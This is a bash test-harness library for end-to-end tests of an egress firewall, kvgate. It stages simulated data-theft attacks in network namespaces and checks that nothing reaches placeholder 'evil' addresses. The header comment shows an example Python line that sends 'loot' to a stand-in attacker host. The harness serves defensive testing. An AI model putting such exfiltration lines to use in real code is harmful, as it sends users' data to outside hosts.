# SPDX-License-Identifier: BSD-2-Clause
# shellcheck shell=bash
#
# What attacks are written with, on top of ../lib.sh:
#
#	. "$(dirname "$0")/lib.sh"
#	arena tcp/443
#	attack_by <<'PYTHON'
#	from attacker import *
#	with attempt("tcp"):
#	    socket.create_connection((EVIL4, 443), 1).sendall(loot("tcp"))
#	PYTHON
#	works stolen:tcp
#	gate
#	stopped
#	recorded connect4 destination
#
# The judge is `watch`, which notes every packet that arrives at the server: what the attacker's own
# system calls say does not count. The attack goes to another address each time, so that a late packet
# of one run is not taken for one of the next.

# shellcheck source=../lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"

ATTACKS=$E2E/attacks
BUILD=$(dirname "$KVGATE")
ATTACK=() # the command that attack_by() and attack_with() made
RUNS=0
ALSO_FORBIDDEN= # what must not arrive besides what is stolen and what goes to the evil addresses
NOT_COUNTED='^$' # what may arrive all the same; the test says why
WATCH_ONLY=()   # what alone the watch notes, see there
MEANWHILE=true  # what the rest of the world does once the attack is open

# The policy holds the good ones, for tcp/443 and for udp/9000 (and 53, as a resolver); never the evil ones.
export GOOD4=198.51.100.2 GOOD6=2001:db8:a00::2
export PYTHONPATH=$ATTACKS PYTHONDONTWRITEBYTECODE=1

# arena SERVICE...: two namespaces, the services on every address of the server, its watch, a cgroup
arena() {
	need_kvgate
	new_network
	serve "$@"
	WATCHED=$SCRATCH/watched
	spawn_in "$SERVER" "$ATTACKS/watch" "$WATCHED" "${WATCH_ONLY[@]}"
	wait_for 5 grep -qs '^ready' "$WATCHED" || fail "the watch did not start"
	new_cgroup app && CG=$REPLY
}

# gate: puts the usual policy on $CG
gate() { gate_on "$CG"; }
# gate_on CGROUP [OPTION...]
gate_on() {
	kvgate attach --audit-file "$SCRATCH/record" --ranges "$RANGES" --resolver none --crl-hosts none \
		--allow "$GOOD4/32=udp/9000" --allow "$GOOD6/128=udp/9000" "${@:2}" "$1" >/dev/null
}

# attack_by: the attack is the Python program on standard input
attack_by() {
	cat >"$SCRATCH/attack.py"
	ATTACK=(python3 "$SCRATCH/attack.py")
}

# attack_with PROGRAM [ARGUMENT...]: the attack is a program of this folder that make built; EVIL4 and ROUND among
# the arguments are those of the run
attack_with() {
	[[ -x $BUILD/tests/e2e/attacks/$1 ]] || skip "no $1: run make attacks first"
	ATTACK=("$BUILD/tests/e2e/attacks/$1" "${@:2}")
}

# next_run: evil addresses that no packet went to before
next_run() {
	RUNS=$((RUNS + 1))
	export EVIL4=203.0.113.$((60 + RUNS)) EVIL6=2001:db8:bad::$RUNS ROUND=run$RUNS
	FORBIDDEN="^frame|${EVIL4//./\\.}|$EVIL6|stolen:[a-z0-9-]*:$ROUND${ALSO_FORBIDDEN:+|$ALSO_FORBIDDEN}"
}

# arrived PATTERN: has a packet come whose line matches the extended regular expression?
arrived() { grep -Eq -- "$1" "$WATCHED"; }

# settle: until all that was sent before has been noted by the watch
settle() {
	local sent=$RANDOM.$SECONDS
	beside bash -c 'echo "settled $1" >/dev/udp/203.0.113.250/9' settle "$sent"
	wait_for 5 arrived "settled $sent" || fail "the watch does not see what is sent"
}

# beside COMMAND...: in the client's namespace, but behind no gate
beside() { client "$@"; }

# forget: what has arrived so far does not count
forget() {
	settle
	: >"$WATCHED"
}

SAID=
launch() {
	local status=0 command=("${ATTACK[@]//EVIL4/$EVIL4}")
	gated "${command[@]//ROUND/$ROUND}" >"$SCRATCH/said" 2>&1 </dev/null || status=$?
	said "$status"
}

# What the attacker says only matters when the attack did not go as it should.
said() {
	SAID=$(cat "$SCRATCH/said")
	[[ $1 != 77 ]] || skip "$(sed -n 's/^SKIP: //p' "$SCRATCH/said")"
	[[ $1 == 0 ]] || fail "the attack itself broke: $SAID"
}

# works PATTERN...: without a gate, each of them arrives: extended regular expressions, in which
# "stolen:TAG" is what loot("TAG") makes, and EVIL4 and EVIL6 are the addresses of the run
works() {
	next_run
	launch
	all_arrived "$@"
}

# passes PATTERN...: behind the gate and in the same run as stopped(), these arrive all the same
passes() { all_arrived "$@"; }

all_arrived() {
	local pattern
	for pattern; do
		pattern=${pattern//EVIL4/$EVIL4}
		pattern=${pattern//EVIL6/$EVIL6}
		[[ ! $pattern =~ ^((stolen|honest):[a-z0-9-]+)(.*) ]] ||
			pattern=${BASH_REMATCH[1]}:$ROUND${BASH_REMATCH[3]}
		wait_for 3 arrived "$pattern" ||
			fail "'$pattern' did not arrive. The attacker: $SAID. The watch: $(tail -n 20 "$WATCHED" | cut -c 1-200)"
	done
}

# stopped: behind the gate, nothing arrives
stopped() {
	next_run
	launch
	nothing_arrived
}

nothing_arrived() {
	local out
	settle
	out=$(grep -E -- "$FORBIDDEN" "$WATCHED" | grep -Ev -- "$NOT_COUNTED" || true)
	[[ -z $out ]] || fail "got out: $(cut -c 1-200 <<<"$out" | sed 5q). The attacker: $SAID"
}

# works_once_open PATTERN..., stopped_once_open COMMAND...: the attack opens its sockets, says "ready"
# (ready() in Python), and goes on when COMMAND has changed the world, e.g. put a gate in place. What it
# sent before then does not count.
works_once_open() {
	next_run
	launch_held
	"$MEANWHILE"
	release
	all_arrived "$@"
}

stopped_once_open() {
	next_run
	launch_held
	"$@"
	forget
	"$MEANWHILE"
	release
	nothing_arrived
}

launch_held() {
	rm -f "$SCRATCH/go" "$SCRATCH/said" # what was said before would count as ready
	mkfifo "$SCRATCH/go"
	# shellcheck disable=SC2016
	bash -c 'echo 0 >"$1/cgroup.procs" && exec nsenter --net="$2" -- "${@:3}"' held \
		"$CG" "/run/netns/$CLIENT" "${ATTACK[@]}" <"$SCRATCH/go" >"$SCRATCH/said" 2>&1 &
	HELD=$!
	exec {GO}>"$SCRATCH/go"
	wait_for 10 ready_or_gone || true
	is_ready && return
	release # which knows why, if the attack has ended
	fail "the attack was not ready in time: $SAID"
}

is_ready() { grep -qs '^ready' "$SCRATCH/said"; }
ready_or_gone() { is_ready || process_gone "$HELD"; }

release() {
	local status=0
	process_gone "$HELD" || echo go >&"$GO"
	exec {GO}>&-
	wait "$HELD" || status=$?
	said "$status"
}

# recorded HOOK REASON: the record holds such a line; HOOK may be "egress|sock_destroy", for a connection
# that is older than the policy and so is closed, or else its next packet refused
recorded() {
	wait_for 5 in_record "$@" ||
		fail "no '$2' at '$1' in the record: $(tail -n 5 "$SCRATCH/record"). The attacker: $SAID"
}
in_record() { grep -Eq "\"reason\":\"$2\".*\"hook\":\"($1)\"" "$SCRATCH/record"; }
